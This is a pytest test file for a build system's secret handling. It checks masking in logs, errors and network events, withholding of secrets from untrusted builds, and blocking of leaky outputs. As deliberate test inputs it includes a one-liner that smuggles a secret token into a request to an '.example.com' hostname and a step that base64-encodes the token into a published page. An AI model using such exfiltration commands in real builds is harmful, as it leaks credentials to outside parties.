"""Secrets in real builds: only where they are named, and nowhere in what is kept."""

import base64
import json
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

if TYPE_CHECKING:
    from tests.server import Server

pytestmark = pytest.mark.sandbox

CANARY = "canary/3f9a+71c2=e8b0d4"
FORMS = [
    CANARY,
    *(base64.b64encode(f"{'xx'[:n]}{CANARY}".encode()).decode()[4:-4] for n in range(3)),
    CANARY.encode().hex(),
    CANARY.encode().hex().upper(),
    quote(CANARY, safe=""),
    json.dumps(CANARY)[1:-1].replace("/", "\\/"),
]
#: Prints the secret in every form, cut in pieces, on both streams, and in the text of an error.
SAY = """
import base64, json, os, sys, time, urllib.parse
secret = os.environ["TOKEN"]
forms = [secret, *(base64.b64encode(("x" * n + secret).encode()).decode() for n in range(3)), secret.encode().hex()]
forms += [secret.encode().hex().upper(), urllib.parse.quote(secret, safe=""), json.dumps(secret).replace("/", chr(92) + "/")]
for form in forms:
    print("whole", form, flush=True)
    for stream in (sys.stdout, sys.stderr):
        for piece in (form[:5], form[5:-2], form[-2:]):
            stream.write(piece)
            stream.flush()
            time.sleep(0.002)
        stream.write(chr(10))
os.makedirs("dist", exist_ok=True)
open("dist/index.html", "w").write("<h1>made</h1>")
if len(sys.argv) > 1:
    raise SystemExit(f"src/main.ts(3,7): error TS2322: the token {secret} is wrong")
"""


def project(command: str = "python3 say.py", more: str = 'secrets = ["TOKEN"]') -> dict[str, str]:
    table = f'[build]\ncommand = {json.dumps(command)}\noutput = "dist"\n{more}\n'
    return {"headrace.toml": table, "say.py": SAY, "src/main.ts": "export {}\n"}


def put(server: "Server", project_id: str, name: str, value: str) -> None:
    answer = server.http.put(f"/projects/{project_id}/secrets/{name}", json={"value": value})
    assert answer.status_code == 200, answer.text


def made(server: "Server", files: dict[str, str], **settings: Any) -> str:
    body = {"name": "made", "settings": settings}
    created = server.http.post("/workspaces/default/projects", json=body).json()
    server.upload(created["id"], files)
    return str(created["id"])


def found_in(place: Path) -> list[str]:
    """Files below `place` that hold the canary in some form. What tests share is not looked at."""
    hits = []
    for path in place.rglob("*"):
        if path.is_symlink() or not path.is_file() or path.is_fifo():
            continue
        data = path.read_bytes()
        hits += [f"{path.relative_to(place)}: {form}" for form in FORMS if form.encode() in data]
    return hits


def test_a_secret_that_a_build_prints_is_nowhere_in_what_is_kept(server: "Server", data_dir: Path) -> None:
    shop = made(server, project())
    put(server, shop, "TOKEN", CANARY)
    build = server.build(shop, wait=True)
    assert build["status"] == "succeeded", build["failure"]
    shown = json.dumps(server.events(build["id"]))
    assert shown.count("[secret]") >= 3 * 8
    assert not [form for form in FORMS if form in shown]
    server.stop()
    assert found_in(data_dir) == []


def test_a_secret_in_the_words_of_a_failure_is_masked_too(server: "Server", data_dir: Path) -> None:
    shop = made(server, project("python3 say.py and fail"))
    put(server, shop, "TOKEN", CANARY)
    build = server.build(shop, wait=True)
    assert build["failure"]["reason"] == "type_error"
    assert "the token [secret] is wrong" in json.dumps(build["failure"])
    server.stop()
    assert found_in(data_dir) == []


def test_a_secret_in_the_name_of_a_host_is_masked_in_what_is_told_of_the_network(
    server: "Server", data_dir: Path
) -> None:
    knock = (
        'python3 -c \'import os, urllib.request as r; r.urlopen("http://" + os.environ["TOKEN"] + ".example.com/")\''
    )
    shop = made(
        server, project(f"{knock}; true", 'secrets = ["TOKEN"]\nnetwork = "registries"'), build_network="registries"
    )
    put(server, shop, "TOKEN", "Canary-In-A-Host")
    build = server.build(shop, wait=True)
    told = json.dumps([event for event in server.events(build["id"]) if event["type"].startswith("egress.")])
    assert "[secret].example.com" in told
    assert "canary-in-a-host" not in json.dumps(server.events(build["id"])).lower()


def test_a_variable_that_is_called_like_a_secret_is_masked(server: "Server") -> None:
    shop = made(server, project(more=""), env={"TOKEN": CANARY})
    build = server.build(shop, wait=True)
    assert build["status"] == "succeeded", build["failure"]
    assert not [form for form in FORMS if form in json.dumps(server.events(build["id"]))]


def test_only_the_step_that_names_a_secret_gets_it(server: "Server") -> None:
    look = "mkdir -p dist; env | grep -c ^TOKEN= > dist/index.html; exit 0"
    unnamed = made(server, {**project(look, more=""), "package.json": "{}"})
    put(server, unnamed, "TOKEN", CANARY)
    build = server.build(unnamed, wait=True)
    assert build["status"] == "succeeded", build["failure"]
    page = server.http.get(f"/builds/{build['id']}/artifact").json()["files"]
    assert next(file["size"] for file in page if file["path"] == "index.html") == len("0\n")
    command = next(one for one in build["commands"] if one["step"] == "build")
    assert "TOKEN" not in command["env"]


def test_an_untrusted_build_gets_no_secret_whatever_it_names(server: "Server") -> None:
    look = "mkdir -p dist; env | grep -c ^TOKEN= > dist/index.html; exit 0"
    shop = made(server, project(look), env={"API_KEY": CANARY, "GREETING": "hello"})
    put(server, shop, "TOKEN", CANARY)
    build = server.build(shop, wait=True, trust="untrusted")
    assert build["status"] == "succeeded", build["failure"]
    (warned,) = (event for event in server.events(build["id"]) if event.get("code") == "secret.withheld")
    assert "API_KEY, TOKEN" in warned["message"]
    env = next(one for one in build["commands"] if one["step"] == "build")["env"]
    assert {"API_KEY", "TOKEN", "GREETING"} & set(env) == {"GREETING"}


def test_an_output_with_a_secret_in_it_is_not_published(server: "Server") -> None:
    leak = "mkdir dist; printf %s $TOKEN | base64 -w0 > dist/index.html"
    shop = made(server, project(leak))
    put(server, shop, "TOKEN", CANARY)
    failure = server.build(shop, wait=True)["failure"]
    assert (failure["reason"], "TOKEN in index.html" in failure["message"]) == ("output_invalid", True)


def test_a_secret_that_is_not_set_is_named_with_the_command_that_sets_it(server: "Server") -> None:
    failure = server.build(made(server, project()), wait=True)["failure"]
    assert (failure["reason"], failure["step"]) == ("missing_env", "build")
    assert failure["hint"] == "set it: headrace secrets set made TOKEN"


def test_another_value_is_another_input_and_the_same_one_is_not(server: "Server") -> None:
    shop = made(server, project())
    put(server, shop, "TOKEN", CANARY)
    first = server.build(shop, wait=True)
    put(server, shop, "TOKEN", CANARY)
    assert server.build(shop, wait=True)["id"] == first["id"]
    put(server, shop, "TOKEN", "another-value-of-it")
    second = server.build(shop, wait=True)
    decisions = server.http.get(f"/builds/{second['id']}/cache").json()["items"]
    assert [one["differs"] for one in decisions if one["cache"] == "result"] == ["secret TOKEN"]


def test_the_command_line_sets_names_and_takes_away(server: "Server") -> None:
    made(server, project())

    def headrace(*arguments: str, given: str = "") -> "subprocess.CompletedProcess[str]":
        argv = [sys.executable, "-m", "headrace", "secrets", *arguments]
        return subprocess.run(argv, input=given, env=server.environment, capture_output=True, text=True, check=False)

    assert headrace("set", "made", "TOKEN", given=f"{CANARY}\n").returncode == 0
    assert "too short" in headrace("set", "made", "FLAG", given="true").stderr
    listed = headrace("ls", "made", "--json")
    assert [(one["name"], one["masked"]) for one in json.loads(listed.stdout)] == [("FLAG", False), ("TOKEN", True)]
    assert CANARY not in listed.stdout + listed.stderr
    assert headrace("rm", "made", "FLAG").returncode == 0
    assert headrace("rm", "made", "FLAG").returncode == 5
    assert headrace("set", "made", "A=B", given="x").returncode == 2
